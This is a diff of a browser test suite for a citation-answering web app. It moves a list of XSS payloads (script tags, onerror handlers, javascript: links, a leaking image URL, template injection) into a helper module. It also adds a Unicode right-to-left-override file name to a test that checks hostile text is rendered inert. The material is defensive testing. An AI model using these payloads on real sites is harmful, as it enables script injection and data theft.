@@ -3,20 +3,18 @@
 from __future__ import annotations
 
 import base64
-import hashlib
 import json
-import subprocess
-import sys
 import time
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
-from typing import Any
 from urllib.parse import urlsplit
 
 import httpx
 import pytest
 
+from axe_script import axe_script, violations
 from devtools import DrivenPage, driven_page
+from hostile_texts import HOSTILE, SCRIPT
 from http_api import upload_bytes
 from local_stack import LocalStack, local_stack
 from page_steps import QUIET, READY, ask, text
@@ -24,31 +22,10 @@ from scripted_model import ScriptedModel, scripted_model
 
 pytestmark = pytest.mark.system(program="chromium", package="chromium")
 
-ROOT = Path(__file__).resolve().parents[2]
-AXE = Path("node_modules", "axe-core", "axe.min.js")
 QUOTE = "Abroad, the meal allowance is 62 euros per day."
 POLICY = f"# Travel\n\n## Meals\n\nNo receipts are needed.\n{QUOTE} Half of it is paid on the first day.\n"
 QUESTION = "How much is the meal allowance per day abroad?"
 ANSWER = ("Abroad, the meal allowance ", "is 62 euros per day. [re", "f:1] It is paid in gold on Sundays.")
-OTHER_ORIGIN = "http://127.0.0.1:9"
-SCRIPT = "window.hacked=1"
-HOSTILE = (
-    f"<script>{SCRIPT}</script>",
-    f"<img src=x onerror={SCRIPT}>",
-    f'<svg onload="{SCRIPT}"></svg>',
-    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
-    f"<style>@import '{OTHER_ORIGIN}/style';</style><link rel=prefetch href={OTHER_ORIGIN}/link>",
-    f"<meta http-equiv=refresh content='0;url={OTHER_ORIGIN}/refresh'>",
-    f"[script](javascript:{SCRIPT}) [data](data:text/html,<script>{SCRIPT}</script>) [vb](vbscript:x)",
-    f"![leak]({OTHER_ORIGIN}/leak?q=secret) ![](//127.0.0.1:9/relative)",
-    f"[ref]: javascript:{SCRIPT}\n\n[ref] and <javascript:{SCRIPT}>",
-    f"&lt;img src=x onerror={SCRIPT}&gt; &#60;script&#62;{SCRIPT}&#60;/script&#62;",
-    f"`</code><script>{SCRIPT}</script>`",
-    f"| <img src=x onerror={SCRIPT}> | b |\n|---|---|\n| <script>{SCRIPT}</script> | d |",
-    f"<math><a xlink:href='javascript:{SCRIPT}'>x</a></math>",
-    f'[over](https://example.org" onmouseover="{SCRIPT})',
-    "{{constructor.constructor('window.hacked=1')()}}",
-)
 
 
 @pytest.fixture(scope="module")
@@ -102,13 +79,7 @@ async def page(stack: LocalStack, model: ScriptedModel, tmp_path: Path) -> Async
 
 @pytest.fixture(scope="module")
 def axe() -> str:
-    """The script that finds what some people can't use; kept between runs, by the lock that it comes from."""
-    lock = hashlib.sha256((ROOT / "web" / "package-lock.json").read_bytes()).hexdigest()
-    home = ROOT / ".citewire-bench" / f"axe-core-{lock[:12]}"
-    if not (home / AXE).exists():
-        command = [sys.executable, ROOT / "scripts" / "web.py", "--fetch", "axe-core", home]
-        subprocess.run(command, check=True, timeout=240)
-    return (home / AXE).read_text(encoding="utf-8")
+    return axe_script()
 
 
 async def test_an_answer_with_its_proof(page: DrivenPage) -> None:
@@ -144,6 +115,45 @@ async def test_an_answer_with_its_proof(page: DrivenPage) -> None:
     await page.click(".badge")
     link = await page.wait_for("document.querySelector('.card-actions a')?.href")
     assert await page.run(f"fetch({json.dumps(link)}).then(response => response.text())") == POLICY
+
+
+async def test_a_marker_that_is_cut_anywhere_never_shows(page: DrivenPage, model: ScriptedModel) -> None:
+    marker = "[ref:1]"
+    cuts = [(f"Abroad it is 62 euros, {cut}. ", marker[:cut], f"{marker[cut:]}\n\n") for cut in range(1, len(marker))]
+    model.say(*(piece for cut in cuts for piece in cut), *"No markers: ", *"[re", "fs] [", "]")
+    await page.run(
+        "window.seen = ''; new MutationObserver(() => (seen += document.querySelector('.prose')?.textContent + '\\n'))"
+        ".observe(document.body, {subtree: true, childList: true, characterData: true})"
+    )
+    model.pause = 0.05  # so that each piece is painted
+    await ask(page, QUESTION)
+    model.pause = 0.01
+    seen: str = await page.run("window.seen")
+    assert len(seen.splitlines()) > len(cuts)
+    assert "[" not in seen.split("No markers", 1)[0]
+    assert "[ref:" not in seen
+    assert "[refs] []" in await text(page, ".prose"), "what isn't a marker is shown"
+    assert await page.run("document.querySelectorAll('.prose .badge').length") == len(cuts)
+
+
+async def test_right_to_left(page: DrivenPage, stack: LocalStack, model: ScriptedModel) -> None:
+    async with httpx.AsyncClient(base_url=stack.base_url, trust_env=False, timeout=60) as http:
+        await upload_bytes(http, "אש.md", "# בטיחות\n\nמטף הכיבוי נמצא ליד הדלת האדומה.\n".encode())
+    model.say(
+        "מטף הכיבוי נמצא ליד הדלת האדומה. [ref:1]\n\n- ראשון\n- שני\n\n",
+        "In English again.\n\n| א | b |\n|---|---|\n| ב | d |\n",
+    )
+    await ask(page, "היכן נמצא מטף הכיבוי?")
+    directions = await page.run(
+        "[...document.querySelectorAll('.question, .prose > p, .prose li, .prose th')]"
+        ".map(each => getComputedStyle(each).direction)"
+    )
+    assert directions == ["rtl", "rtl", "rtl", "rtl", "ltr", "rtl", "ltr"]
+    box = "document.querySelector('.prose > p').getBoundingClientRect()"
+    badge = "document.querySelector('.prose > p .badge').getBoundingClientRect()"
+    assert await page.run(f"{badge}.x < {box}.x + {box}.width / 2"), "the badge stands at the end of the sentence: left"
+    await page.click(".badge")
+    assert await page.wait_for("getComputedStyle(document.querySelector('.card .passage')).direction") == "rtl"
 
 
 async def test_by_touch(page: DrivenPage) -> None:
@@ -312,6 +322,9 @@ async def test_hostile_texts_stay_texts(page: DrivenPage, stack: LocalStack, mod
     async with httpx.AsyncClient(base_url=stack.base_url, trust_env=False, timeout=60) as http:
         content = "# <script>window.hacked=1</script>\n\nThe zorblax fee is 77 euros.\n\n" + "\n\n".join(HOSTILE)
         await upload_bytes(http, name, content.encode())
+        article = {"type": "article", "title": HOSTILE[1], "content": "A quiet text.", "tags": [HOSTILE[2][:60]]}
+        (await http.post("/v1/documents", json=article)).raise_for_status()
+        await upload_bytes(http, "photo.md", "# photo\u202egpj.exe\n\nWhat its name hides.\n".encode())
     await page.run("addEventListener('securitypolicyviolation', event => (window.violated = event.violatedDirective))")
     model.say("The zorblax fee is 77 euros. [ref:1]\n\n", *(f"{text}\n\n" for text in HOSTILE))
     await ask(page, f"What is the zorblax fee? <img src=x onerror={SCRIPT}>")
@@ -346,6 +359,10 @@ async def test_hostile_texts_stay_texts(page: DrivenPage, stack: LocalStack, mod
     )
     await page.wait_for("document.querySelectorAll('.chunk').length > 0")
     assert await page.run(own) == 0
+    await page.go(f"{stack.base_url}/#/library")
+    names = "[...document.querySelectorAll('.documents .name')].map(name => name.textContent).join('')"
+    await page.wait_for(f"{names}.includes('photogpj.exe') && {names}.includes({json.dumps(HOSTILE[1])})")
+    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(await page.run(names))
     assert await page.run("window.violated") is None, "nothing had to be refused"
 
 
@@ -393,11 +410,3 @@ async def test_axe_finds_nothing(page: DrivenPage, axe: str, subtests: pytest.Su
                         wide = await page.run("document.documentElement.scrollWidth - innerWidth")
                         assert wide <= 0, "nothing is wider than the window"
                         assert await violations(page) == []
-
-
-async def violations(page: DrivenPage) -> list[Any]:
-    """What axe finds, with where."""
-    return await page.run(
-        "axe.run().then(result => result.violations.map(({id, nodes}) =>"
-        " [id, nodes.map(node => node.html.slice(0, 200))]))"
-    )
